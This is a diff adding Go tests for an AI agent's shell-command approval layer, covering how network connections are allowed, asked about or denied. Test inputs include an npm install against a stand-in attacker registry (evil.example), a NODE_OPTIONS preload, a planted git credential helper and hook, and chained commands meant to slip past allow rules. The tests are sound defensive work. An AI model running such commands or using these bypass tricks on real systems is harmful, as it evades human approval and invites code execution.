@@ -1,0 +1,135 @@
+package shell
+
+import (
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/assent-dev/assent/approval"
+	"github.com/assent-dev/assent/tool"
+	"github.com/assent-dev/assent/tool/hosts"
+)
+
+// Without a stage an allow that spells the program and its subcommand answers the connections of
+// that command as well, whoever says it; nothing wider does.
+func TestConnectionsOfASpelledCommand(t *testing.T) {
+	on := hosts.Policy{On: true}
+	preset, _ := PresetRules("node", "policy.yaml:2")
+	for _, c := range []struct {
+		name  string
+		cfg   Config
+		rules []string
+		want  string
+		texts []string
+	}{
+		{"config", Config{Rules: allow("npm install", "git push", "pip install"), Network: on}, nil, "allow", []string{"npm install", "npm install left-pad", "git push", "git push origin main", "pip install x", "timeout 60 npm install"}},
+		{"rule", Config{Network: on}, []string{"allow shell(npm install)", "allow shell(git push)", "allow write_file(**)"}, "allow", []string{"npm install left-pad", "git push", "git push ssh://git@a.example/x"}},
+		{"config, and a flag that names a host", Config{Rules: allow("npm install"), Network: on}, nil, "ask", []string{"npm install --registry https://evil.example/"}},
+		{"rule, and a flag that names a host", Config{Network: on}, []string{"allow shell(npm install)"}, "ask", []string{"npm install --registry https://evil.example/"}},
+		{"config with a program", Config{Rules: allow("npm", "git", "curl"), Network: on}, nil, "ask", []string{"npm install", "git push", "curl https://a.example/", "curl $URL"}},
+		{"rule with a program", Config{Network: on}, []string{"allow shell(npm)", "allow shell(git *)", "allow shell(curl)"}, "ask", []string{"npm install", "git push", "curl https://a.example/"}},
+		{"every command", Config{Network: on}, []string{"allow shell"}, "ask", []string{"npm install", "git push"}},
+		{"a preset", Config{Rules: preset, Network: on}, nil, "ask", []string{"npm install"}},
+		{"the default", Config{Default: Default{Approval: tool.WordAllow}, Network: on}, nil, "ask", []string{"npm install", "git push"}},
+		{"a URL that is spelled", Config{Rules: allow("curl https://a.example/x"), Network: on}, nil, "allow", []string{"curl https://a.example/x", "curl https://a.example/x -s"}},
+		{"a rule with it", Config{Network: on}, []string{"allow shell(curl https://a.example/x)"}, "allow", []string{"curl https://a.example/x"}},
+		{"and another URL", Config{Rules: allow("curl https://a.example/x"), Network: on}, nil, "ask", []string{"curl https://a.example/x https://b.example/", "curl https://b.example/"}},
+		{"a host that is spelled", Config{Rules: allow("nc a.example"), Network: on}, nil, "allow", []string{"nc a.example 80"}},
+		{"exactly", Config{Rules: allow("= yarn"), Network: on}, nil, "allow", []string{"yarn"}},
+		{"a program that installs by itself", Config{Rules: allow("yarn"), Network: on}, nil, "ask", []string{"yarn"}},
+		{"the network is off", Config{Rules: allow("npm install", "git push")}, nil, "deny", []string{"npm install", "git push"}},
+		{"a deny of a host that may be met", Config{Rules: allow("npm install"), Network: on}, []string{"deny connect(evil.example)"}, "person", []string{"npm install"}},
+		{"a denied host", Config{Rules: allow("git push"), Network: on}, []string{"deny connect(evil.example)"}, "deny", []string{"git push https://evil.example/x"}},
+		{"hosts that config denies", Config{Rules: allow("npm install"), Network: hosts.Policy{On: true, Deny: []string{"evil.example"}}}, nil, "person", []string{"npm install"}},
+		{"where rules do not hold", Config{Rules: allow("npm install"), Cwd: "proj/src", Network: on}, nil, "ask", []string{"cd .. && npm install"}},
+		{"another command's", Config{Rules: allow("npm install", "curl"), Network: on}, nil, "ask", []string{"npm install && curl https://a.example/"}},
+		{"a variable that programs obey", Config{Rules: allow("npm install"), Network: on}, nil, "ask", []string{"NODE_OPTIONS=-r=./x npm install"}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			b := benchOf(t, c.cfg, false, c.rules...)
+			b.all(c.want, c.texts...)
+		})
+	}
+}
+
+// A host from settings that is listed does not make a command free whose other hosts are not
+// known, where nothing judges them as they connect.
+func TestAGuessedHostFreesNothing(t *testing.T) {
+	b := benchOf(t, Config{Rules: allow("npm", "git"), Network: hosts.Policy{Allow: []string{"registry.npmjs.org", "git.example"}}}, false)
+	b.git("remote", "add", "origin", "https://git.example/x")
+	b.all("ask", "npm install")
+	b.all("allow", "git push", "git fetch origin") // all of whose hosts are known
+	b.write(filepath.Join(b.dir, ".git/hooks/pre-push"), "#!/bin/sh\n")
+	b.all("ask", "git push")
+	text := b.acts("npm install")
+	if !strings.Contains(text, "free connect(registry.npmjs.org:443)") || !strings.Contains(text, "ask connect(unknown url)") {
+		t.Error(text)
+	}
+}
+
+// On a stage each connection is judged when it is made.
+func TestConnectionsOnAStage(t *testing.T) {
+	staged := func(p hosts.Policy) hosts.Policy { p.Staged = true; return p }
+	listed := staged(hosts.Policy{Allow: []string{"registry.npmjs.org", "git.example"}})
+	for _, c := range []struct {
+		name  string
+		cfg   Config
+		rules []string
+		want  string
+		texts []string
+	}{
+		{"listed", Config{Rules: allow("npm", "git", "curl"), Network: listed}, nil, "allow", []string{"npm install", "git push", "curl https://git.example/"}},
+		{"not listed, and found in settings", Config{Rules: allow("npm", "git"), Network: staged(hosts.Policy{On: true})}, nil, "allow", []string{"npm install", "git push", "git push origin main"}},
+		{"by a rule", Config{Network: staged(hosts.Policy{On: true})}, []string{"allow shell(npm)", "allow shell(git push)"}, "allow", []string{"npm install", "git push"}},
+		{"not listed, and spelled", Config{Rules: allow("curl", "git push"), Network: staged(hosts.Policy{On: true})}, nil, "ask", []string{"curl https://a.example/", "git push https://a.example/x"}},
+		{"spelled by the rule too", Config{Rules: allow("curl https://a.example/x"), Network: staged(hosts.Policy{On: true})}, nil, "ask", []string{"curl https://a.example/x"}},
+		{"not known", Config{Rules: allow("curl"), Network: staged(hosts.Policy{On: true})}, nil, "allow", []string{"curl https://$X/y"}},
+		{"not known, and perhaps a file", Config{Rules: allow("curl", "git push"), Network: staged(hosts.Policy{On: true})}, nil, "ask", []string{"curl $X", "git push $X"}},
+		{"nothing allows the command", Config{Network: staged(hosts.Policy{On: true})}, nil, "ask", []string{"npm install", "git push"}},
+		{"denied", Config{Rules: allow("git", "npm"), Network: staged(hosts.Policy{On: true})}, []string{"deny connect(git.example)", "deny connect(registry.npmjs.org)"}, "deny", []string{"git push", "npm install"}},
+		{"a deny that may be met is for later", Config{Rules: allow("npm"), Network: staged(hosts.Policy{On: true, Deny: []string{"evil.example"}})}, []string{"deny connect(evil.example)"}, "allow", []string{"npm install"}},
+		{"on another machine", Config{Rules: allow("ssh", "npm"), Network: staged(hosts.Policy{On: true})}, []string{"allow connect(a.example:22)"}, "ask", []string{"ssh a.example npm install"}},
+		{"off", Config{Rules: allow("npm install", "git push"), Network: staged(hosts.Policy{})}, nil, "deny", []string{"npm install", "git push"}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			b := benchOf(t, c.cfg, false, append(c.rules, "allow write_file(**)")...)
+			b.tool.opts.Sandbox = fakeSandbox{}
+			b.git("remote", "add", "origin", "https://git.example/x")
+			b.all(c.want, c.texts...)
+		})
+	}
+}
+
+func TestHeldOnAStage(t *testing.T) {
+	b := heldBench(t, fakeSandbox{})
+	b.tool.cfg.Network = hosts.Policy{On: true, Staged: true}
+	b.git("remote", "add", "origin", "https://git.example/x")
+	b.all("allow", "npm install", "git fetch", "make")
+	b.write(filepath.Join(b.home, ".gitconfig"), "[credential]\n helper = ./x\n")
+	b.all("allow", "git fetch origin", "git fetch")
+	b.all("ask", "curl https://a.example/")
+	b.tool.opts.Sandbox = fakeSandbox{wide: true}
+	b.all("ask", "npm install", "git fetch")
+	b.tool.opts.Sandbox, b.tool.cfg.Network.Staged = fakeSandbox{}, false
+	b.all("ask", "npm install", "git fetch")
+}
+
+// Where something else is asked, the host is asked with it, and one answer covers both.
+func TestAHostIsAskedWithItsCommand(t *testing.T) {
+	b := benchOf(t, Config{Network: hosts.Policy{On: true, Staged: true}}, false)
+	b.tool.opts.Sandbox = fakeSandbox{}
+	b.git("remote", "add", "origin", "https://git.example/x")
+	p, err := b.propose("git push")
+	if err != nil {
+		t.Fatal(err)
+	}
+	call := approval.Call{Tool: "shell"}
+	j := approval.Policy{}.Judge(approval.Question{Call: &call, Proposal: &p})
+	if len(j.Open) != 2 || p.Acts[1].String() != "connect(git.example:443)" || !p.Acts[1].Later {
+		t.Fatalf("open are %v of %v", j.Open, p.Acts)
+	}
+	judged := &judging{acts: p.Acts}
+	if got := judged.answered().acts[1]; got.Later || !p.Acts[1].Later {
+		t.Error("what a person approved with the call is still to be asked")
+	}
+}
